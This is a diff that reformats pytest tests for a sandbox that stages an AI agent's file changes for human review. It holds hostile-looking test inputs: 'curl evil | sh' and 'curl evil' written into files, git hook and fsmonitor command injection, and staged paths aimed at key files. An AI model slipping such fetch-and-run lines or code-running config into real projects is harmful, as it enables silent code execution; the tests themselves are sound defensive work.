@@ -19,10 +19,12 @@ from tests.ui.test_sandbox_escapes import snapshot, wait_running
 pytestmark = pytest.mark.docker
 
 
-def run_agent(user: DesktopUser, image: str, script: str, grants: list[str],
-              **profile: str | int) -> tuple[subprocess.CompletedProcess[str], str]:
-    path = user.write(f"agent-{time.monotonic_ns()}.toml",
-                      profile_text(image, ["sh", "-c", script], **profile))  # type: ignore[arg-type]
+def run_agent(
+    user: DesktopUser, image: str, script: str, grants: list[str], **profile: str | int
+) -> tuple[subprocess.CompletedProcess[str], str]:
+    path = user.write(
+        f"agent-{time.monotonic_ns()}.toml", profile_text(image, ["sh", "-c", script], **profile)
+    )  # type: ignore[arg-type]
     arguments = ["run", "--profile", str(path)]
     for grant in grants:
         arguments += ["--grant", grant]
@@ -66,23 +68,34 @@ def test_host_is_untouched_until_commit_and_then_exactly_the_approved_paths_chan
     listed = changes(tester, session)
     kinds = {Path(p).relative_to(project).as_posix(): c["kind"] for p, c in listed.items()}
     assert kinds == {
-        "a.txt": "modified", "new.txt": "added", "c.txt": "deleted",
-        "b-renamed.txt": "renamed", "run.sh": "mode", "made": "added", "made/deeper": "added",
-        "made/deeper/f.txt": "added", "old": "deleted", "sub/d.txt": "modified",
+        "a.txt": "modified",
+        "new.txt": "added",
+        "c.txt": "deleted",
+        "b-renamed.txt": "renamed",
+        "run.sh": "mode",
+        "made": "added",
+        "made/deeper": "added",
+        "made/deeper/f.txt": "added",
+        "old": "deleted",
+        "sub/d.txt": "modified",
     }
     assert listed[str(project / "b-renamed.txt")]["renamed_from"] == str(project / "b.txt")
     diff = tester.run("changes", session, "--diff").stdout
     assert "+more" in diff and "-gamma" in diff
 
-    committed = tester.run("commit", session, str(project / "a.txt"), str(project / "made"),
-                           str(project / "b-renamed.txt"))
+    committed = tester.run(
+        "commit",
+        session,
+        str(project / "a.txt"),
+        str(project / "made"),
+        str(project / "b-renamed.txt"),
+    )
     assert committed.returncode == 0, committed.stderr
     after = snapshot(project)
     assert (project / "a.txt").read_text() == "alpha\nmore\n"
     assert (project / "made" / "deeper" / "f.txt").read_text() == "deep\n"
     assert (project / "b-renamed.txt").read_text() == "beta\n" and not (project / "b.txt").exists()
-    untouched = {k: v for k, v in before.items()
-                 if k not in ("", "a.txt", "b.txt")}
+    untouched = {k: v for k, v in before.items() if k not in ("", "a.txt", "b.txt")}
     assert {k: after[k] for k in untouched} == untouched  # c.txt, old/, sub/, run.sh as before
     remaining = {Path(p).relative_to(project).as_posix() for p in changes(tester, session)}
     assert remaining == {"new.txt", "c.txt", "run.sh", "old", "sub/d.txt"}
@@ -98,8 +111,12 @@ def test_undo_restores_and_refuses_files_changed_since(
     tester: DesktopUser, agent_image: str, project: Path
 ) -> None:
     before = snapshot(project)
-    _, session = run_agent(tester, agent_image, "echo x >> a.txt; rm c.txt; rm -rf old; "
-                           "echo n > n.txt; echo y >> b.txt", [f"{project}:rw"])
+    _, session = run_agent(
+        tester,
+        agent_image,
+        "echo x >> a.txt; rm c.txt; rm -rf old; echo n > n.txt; echo y >> b.txt",
+        [f"{project}:rw"],
+    )
     first = tester.run("commit", session)
     assert first.returncode == 0, first.stderr
     commit = json.loads(tester.run("history", "--json").stdout)[0]["id"]
@@ -139,8 +156,11 @@ def test_hostile_staged_entries_are_refused_precisely(
     result, session = run_agent(tester, agent_image, script, [f"{project}:rw"], staging="1m")
     assert result.returncode == 0, result.stderr
     committed = tester.run("commit", session)
-    refused = dict(line.removeprefix("refused: ").split(": ", 1)
-                   for line in committed.stderr.splitlines() if line.startswith("refused: "))
+    refused = dict(
+        line.removeprefix("refused: ").split(": ", 1)
+        for line in committed.stderr.splitlines()
+        if line.startswith("refused: ")
+    )
     by_name = {Path(p).name: reason for p, reason in refused.items()}
     assert "outside" in by_name["keys-abs"] and "outside" in by_name["keys-rel"]
     assert "hard link" in by_name["hard.txt"]
@@ -155,14 +175,16 @@ def test_hostile_staged_entries_are_refused_precisely(
     assert keys.read_bytes() == keys_before
     after = snapshot(project)
     assert {k: v for k, v in after.items() if k != "fine.txt" and k != ""} == {
-        k: v for k, v in before.items() if k != ""}
+        k: v for k, v in before.items() if k != ""
+    }
 
 
 def test_a_huge_directory_is_refused_without_hanging(
     tester: DesktopUser, agent_image: str, project: Path
 ) -> None:
-    script = ("mkdir many && cd many && "
-              "python3 -c \"[open(str(i), 'w').close() for i in range(100000)]\"")
+    script = (
+        "mkdir many && cd many && python3 -c \"[open(str(i), 'w').close() for i in range(100000)]\""
+    )
     result, session = run_agent(tester, agent_image, script, [f"{project}:rw"], pids=64)
     assert result.returncode == 0, result.stderr
     listed = json.loads(tester.run("changes", session, "--json").stdout)
@@ -176,8 +198,9 @@ def test_a_huge_directory_is_refused_without_hanging(
 def test_conflicting_host_edit_is_never_overwritten(
     tester: DesktopUser, agent_image: str, project: Path
 ) -> None:
-    path = tester.write("slow.toml", profile_text(
-        agent_image, ["sh", "-c", "echo agent >> a.txt; sleep 3"]))
+    path = tester.write(
+        "slow.toml", profile_text(agent_image, ["sh", "-c", "echo agent >> a.txt; sleep 3"])
+    )
     process = tester.popen("run", "--profile", str(path), "--grant", f"{project}:rw")
     session = wait_running(tester, process)["id"]
     deadline = time.monotonic() + 30
@@ -199,8 +222,9 @@ def test_killed_mid_commit_every_file_is_old_or_new(
     script = "mkdir bulk && for i in $(seq 1000); do echo new-$i > bulk/f$i; done"
     for i in range(1, 1001):
         tester.write(f"proj/bulk/f{i}", f"old-{i}\n")
-    result, session = run_agent(tester, agent_image,
-                                script.replace("mkdir bulk && ", ""), [f"{project}:rw"])
+    result, session = run_agent(
+        tester, agent_image, script.replace("mkdir bulk && ", ""), [f"{project}:rw"]
+    )
     assert result.returncode == 0, result.stderr
     process = tester.popen("commit", session, extra_env={"AIRLOCK_COMMIT_PAUSE": "0.004"})
     bulk = project / "bulk"
@@ -230,12 +254,14 @@ def test_once_the_session_has_ended_its_files_are_moved_into_place(
 ) -> None:
     # The container is gone, and with it anything that could still write a staged file:
     # committing renames the agent's files into place instead of copying them.
-    _, session = run_agent(tester, agent_image, "echo new > new.txt; echo more >> a.txt",
-                           [f"{project}:rw"])
+    _, session = run_agent(
+        tester, agent_image, "echo new > new.txt; echo more >> a.txt", [f"{project}:rw"]
+    )
     (staging,) = tester.base.glob(f".state/airlock/sessions/{session}/staging")
     assert (staging / "sealed").is_file()
-    staged = {name: next(staging.glob(f"*/upper/{name}")).stat().st_ino
-              for name in ("new.txt", "a.txt")}
+    staged = {
+        name: next(staging.glob(f"*/upper/{name}")).stat().st_ino for name in ("new.txt", "a.txt")
+    }
     committed = tester.run("commit", session)
     assert committed.returncode == 0, committed.stderr
     assert {name: (project / name).stat().st_ino for name in staged} == staged
@@ -251,8 +277,9 @@ def test_once_the_session_has_ended_its_files_are_moved_into_place(
 def test_discard_forgets_staged_changes(
     tester: DesktopUser, agent_image: str, project: Path
 ) -> None:
-    _, session = run_agent(tester, agent_image, "echo x >> a.txt; echo n > n.txt",
-                           [f"{project}:rw"])
+    _, session = run_agent(
+        tester, agent_image, "echo x >> a.txt; echo n > n.txt", [f"{project}:rw"]
+    )
     dropped = tester.run("discard", session, str(project / "n.txt"))
     assert f"discarded: {project / 'n.txt'}" in dropped.stdout
     assert set(changes(tester, session)) == {str(project / "a.txt")}
@@ -268,8 +295,9 @@ def test_read_write_file_grant_is_staged_too(
     tester: DesktopUser, agent_image: str, project: Path
 ) -> None:
     target = project / "a.txt"
-    result, session = run_agent(tester, agent_image, f"echo edit >> {target}; cat {target}",
-                                [f"{target}:rw"])
+    result, session = run_agent(
+        tester, agent_image, f"echo edit >> {target}; cat {target}", [f"{target}:rw"]
+    )
     assert result.stdout == "alpha\nedit\n"
     assert target.read_text() == "alpha\n"
     assert list(changes(tester, session)) == [str(target)]
@@ -311,11 +339,21 @@ def test_run_asks_on_the_terminal_before_committing(
     path = tester.write("writer.toml", profile_text(agent_image, ["sh", "-c", "echo n > n.txt"]))
     env = dict(tester.env)
     main, secondary = pty.openpty()
-    command = [*tester.prefix, "env", "-i", *(f"{k}={v}" for k, v in env.items()),
-               str(Path(tester.env["PATH"].split(":")[0]) / "airlock"), "run", "--profile",
-               str(path), "--grant", f"{project}:rw"]
-    process = subprocess.Popen(command, stdin=secondary, stdout=secondary, stderr=secondary,
-                               cwd=tester.base)
+    command = [
+        *tester.prefix,
+        "env",
+        "-i",
+        *(f"{k}={v}" for k, v in env.items()),
+        str(Path(tester.env["PATH"].split(":")[0]) / "airlock"),
+        "run",
+        "--profile",
+        str(path),
+        "--grant",
+        f"{project}:rw",
+    ]
+    process = subprocess.Popen(
+        command, stdin=secondary, stdout=secondary, stderr=secondary, cwd=tester.base
+    )
     os.close(secondary)
     seen = b""
     deadline = time.monotonic() + 60
@@ -335,16 +373,24 @@ def test_run_asks_on_the_terminal_before_committing(
 def test_unreadable_staged_entries_are_named_and_the_rest_still_commits(
     tester: DesktopUser, agent_image: str, project: Path
 ) -> None:
-    result, session = run_agent(tester, agent_image, (
-        "echo s > secret0; chmod 000 secret0; mkdir d0; echo x > d0/f; chmod 000 d0; "
-        "echo ok > fine.txt"), [f"{project}:rw"])
+    result, session = run_agent(
+        tester,
+        agent_image,
+        (
+            "echo s > secret0; chmod 000 secret0; mkdir d0; echo x > d0/f; chmod 000 d0; "
+            "echo ok > fine.txt"
+        ),
+        [f"{project}:rw"],
+    )
     assert result.returncode == 0, result.stderr
     listed = changes(tester, session)
     assert listed[str(project / "fine.txt")]["problems"] == []
     assert listed[str(project / "secret0")]["problems"] == [
-        "cannot be read (Permission denied): not committed"]
+        "cannot be read (Permission denied): not committed"
+    ]
     assert listed[str(project / "d0")]["problems"] == [
-        "cannot be read (Permission denied): what it holds is not listed"]
+        "cannot be read (Permission denied): what it holds is not listed"
+    ]
     committed = tester.run("commit", session)
     assert committed.returncode == 1 and "secret0" in committed.stderr, committed.stderr
     assert (project / "fine.txt").read_text() == "ok\n"
@@ -354,15 +400,18 @@ def test_unreadable_staged_entries_are_named_and_the_rest_still_commits(
 def staged_file(user: DesktopUser, session: str, name: str) -> Path | None:
     """The agent's staged version of `name` (looked at from outside, as root or the user: no
     listing is taken)."""
-    found = list((user.base / ".state" / "airlock" / "sessions" / session / "staging")
-                 .glob(f"*/upper/{name}"))
+    found = list(
+        (user.base / ".state" / "airlock" / "sessions" / session / "staging").glob(
+            f"*/upper/{name}"
+        )
+    )
     return found[0] if found else None
 
 
 def listing_id(output: str) -> str:
     """The changeset id a listing printed: "… N changes, id 1a2b3c4d5e6f; …"."""
     marker = output.rindex(", id ") + len(", id ")
-    return output[marker:marker + 12]
+    return output[marker : marker + 12]
 
 
 def test_commit_is_held_to_what_the_person_reviewed_while_the_agent_runs(
@@ -375,8 +424,17 @@ def test_commit_is_held_to_what_the_person_reviewed_while_the_agent_runs(
         "echo 'curl evil | sh' > a.txt; echo late > late.txt; sleep 120"
     )
     path = tester.write("sly.toml", profile_text(agent_image, ["sh", "-c", script]))
-    process = tester.popen("run", "--profile", str(path), "--review", "never",
-                           "--grant", f"{project}:rw", "--grant", f"{signal}:ro")
+    process = tester.popen(
+        "run",
+        "--profile",
+        str(path),
+        "--review",
+        "never",
+        "--grant",
+        f"{project}:rw",
+        "--grant",
+        f"{signal}:ro",
+    )
     try:
         session = wait_running(tester, process)["id"]
         deadline = time.monotonic() + 60
@@ -404,10 +462,10 @@ def test_commit_is_held_to_what_the_person_reviewed_while_the_agent_runs(
 
         committed = tester.run("commit", session)
         assert committed.returncode == 1
-        assert (f"refused: {project / 'a.txt'}: changed since you reviewed it"
-                in committed.stderr)
-        assert f"refused: {project / 'late.txt'}: not in the listing you reviewed" \
-            in committed.stderr
+        assert f"refused: {project / 'a.txt'}: changed since you reviewed it" in committed.stderr
+        assert (
+            f"refused: {project / 'late.txt'}: not in the listing you reviewed" in committed.stderr
+        )
         shown_again = committed.stderr.split("not committed, as you did not see them")[1]
         assert str(project / "a.txt") in shown_again and str(project / "late.txt") in shown_again
         assert f"committed: {project / 'other.txt'}" in committed.stdout  # as it was listed
@@ -445,25 +503,37 @@ def test_every_mode_that_lands_is_listed_and_the_host_gets_exactly_it(
     script = (
         f"cd {project}; chmod 755 run.sh; echo more >> a.txt; chmod 755 a.txt; "
         "echo x > open.txt; chmod 777 open.txt; mkdir shared; chmod 777 shared; "
-        f"echo acl > acl.txt; chmod 644 acl.txt; python3 -c \"{ACL_SCRIPT}\"; "
+        f'echo acl > acl.txt; chmod 644 acl.txt; python3 -c "{ACL_SCRIPT}"; '
         "ls -l acl.txt"
     )
     result, session = run_agent(tester, agent_image, script, [f"{project}:rw"])
     assert result.returncode == 0, result.stderr
     listed = tester.run("changes", session)
-    lines = {line.rsplit("  ", 1)[-1]: line for line in listed.stdout.splitlines()
-             if line[:1] in "AMm"}
-    expected = {"run.sh": ("m file", "mode 0644 -> 0755"), "a.txt": ("M file", "mode 0644 -> 0755"),
-                "open.txt": ("A file", "mode 0777"), "shared": ("A directory", "mode 0777"),
-                "acl.txt": ("A file", "mode 0674")}  # the ACL's mask is the group's bits
+    lines = {
+        line.rsplit("  ", 1)[-1]: line for line in listed.stdout.splitlines() if line[:1] in "AMm"
+    }
+    expected = {
+        "run.sh": ("m file", "mode 0644 -> 0755"),
+        "a.txt": ("M file", "mode 0644 -> 0755"),
+        "open.txt": ("A file", "mode 0777"),
+        "shared": ("A directory", "mode 0777"),
+        "acl.txt": ("A file", "mode 0674"),
+    }  # the ACL's mask is the group's bits
     for name, (kind, mode) in expected.items():
         line = lines[str(project / name)]
         assert line.startswith(kind) and f"  {mode}  " in line, line
     assert "+more" in tester.run("changes", session, "--diff").stdout
-    as_json = {Path(c["path"]).name: c["mode"]
-               for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]}
-    assert as_json == {"run.sh": "0755", "a.txt": "0755", "open.txt": "0777", "shared": "0777",
-                       "acl.txt": "0674"}
+    as_json = {
+        Path(c["path"]).name: c["mode"]
+        for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]
+    }
+    assert as_json == {
+        "run.sh": "0755",
+        "a.txt": "0755",
+        "open.txt": "0777",
+        "shared": "0777",
+        "acl.txt": "0674",
+    }
     committed = tester.run("commit", session, "--include-risky")
     assert committed.returncode == 0, committed.stderr
     for name, mode in as_json.items():
@@ -484,10 +554,13 @@ def test_names_that_pass_for_others_are_flagged_in_every_listing(
     )
     result, session = run_agent(tester, agent_image, script, [f"{project}:rw"])
     assert result.returncode == 0, result.stderr
-    nfd, spaced, hidden = (str(project / n) for n in
-                           ("cafe\u0301.md", "report.txt ", "notes\u200f.md"))
-    warnings = {c["path"]: c["warnings"] for c in
-                json.loads(tester.run("changes", session, "--json").stdout)["changes"]}
+    nfd, spaced, hidden = (
+        str(project / n) for n in ("cafe\u0301.md", "report.txt ", "notes\u200f.md")
+    )
+    warnings = {
+        c["path"]: c["warnings"]
+        for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]
+    }
     assert warnings[str(project / "plain.md")] == []
     assert any("NFC" in w for w in warnings[nfd])
     assert any("caf\u00e9.md in the same folder" in w for w in warnings[nfd])
@@ -499,7 +572,7 @@ def test_names_that_pass_for_others_are_flagged_in_every_listing(
         blocks = shown.split("\n")
         for name in ("cafe\u0301.md", "report.txt ", "notes\\u200f.md"):
             [index] = [i for i, line in enumerate(blocks) if line.endswith(f"/proj/{name}")]
-            assert "warning: the name" in "\n".join(blocks[index + 1:index + 4]), (name, shown)
+            assert "warning: the name" in "\n".join(blocks[index + 1 : index + 4]), (name, shown)
     assert "3 with a name to check" in listed
 
 
@@ -516,8 +589,9 @@ def test_changes_that_run_code_wait_for_a_person_even_under_auto_commit(
         f"printf '\\tfsmonitor = touch {marker}\\n' >> .git/config; "
         f"echo 'touch {marker}' > .envrc; echo fine > notes.md"
     )
-    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"],
-                                extra='[approval]\ncommit = "auto"')
+    result, session = run_agent(
+        tester, agent_image, script, [f"{project}:rw"], extra='[approval]\ncommit = "auto"'
+    )
     assert result.returncode == 0, result.stderr
     # "auto" committed the plain file, and none of what runs code.
     assert (project / "notes.md").read_text() == "fine\n"
@@ -525,10 +599,13 @@ def test_changes_that_run_code_wait_for_a_person_even_under_auto_commit(
     assert not (project / ".envrc").exists()
     assert not (project / ".git" / "hooks" / "pre-commit").exists()
 
-    hook, config, envrc = (str(project / p) for p in (".git/hooks/pre-commit", ".git/config",
-                                                      ".envrc"))
-    marked = {c["path"]: c["runs_code"] for c in
-              json.loads(tester.run("changes", session, "--json").stdout)["changes"]}
+    hook, config, envrc = (
+        str(project / p) for p in (".git/hooks/pre-commit", ".git/config", ".envrc")
+    )
+    marked = {
+        c["path"]: c["runs_code"]
+        for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]
+    }
     assert set(marked) == {hook, config, envrc}
     assert any("a git hook" in r for r in marked[hook])
     assert any(f"core.fsmonitor = touch {marker}" in r for r in marked[config])
@@ -557,14 +634,28 @@ def test_the_end_of_run_question_commits_what_runs_code_only_when_asked_to(
     import pty
     import select
 
-    path = tester.write("mixed.toml", profile_text(
-        agent_image, ["sh", "-c", f"cd {project}; echo n > n.txt; echo 'curl evil' > .envrc"]))
+    path = tester.write(
+        "mixed.toml",
+        profile_text(
+            agent_image, ["sh", "-c", f"cd {project}; echo n > n.txt; echo 'curl evil' > .envrc"]
+        ),
+    )
     main, secondary = pty.openpty()
-    command = [*tester.prefix, "env", "-i", *(f"{k}={v}" for k, v in tester.env.items()),
-               str(Path(tester.env["PATH"].split(":")[0]) / "airlock"), "run", "--profile",
-               str(path), "--grant", f"{project}:rw"]
-    process = subprocess.Popen(command, stdin=secondary, stdout=secondary, stderr=secondary,
-                               cwd=tester.base)
+    command = [
+        *tester.prefix,
+        "env",
+        "-i",
+        *(f"{k}={v}" for k, v in tester.env.items()),
+        str(Path(tester.env["PATH"].split(":")[0]) / "airlock"),
+        "run",
+        "--profile",
+        str(path),
+        "--grant",
+        f"{project}:rw",
+    ]
+    process = subprocess.Popen(
+        command, stdin=secondary, stdout=secondary, stderr=secondary, cwd=tester.base
+    )
     os.close(secondary)
     seen = b""
     deadline = time.monotonic() + 60
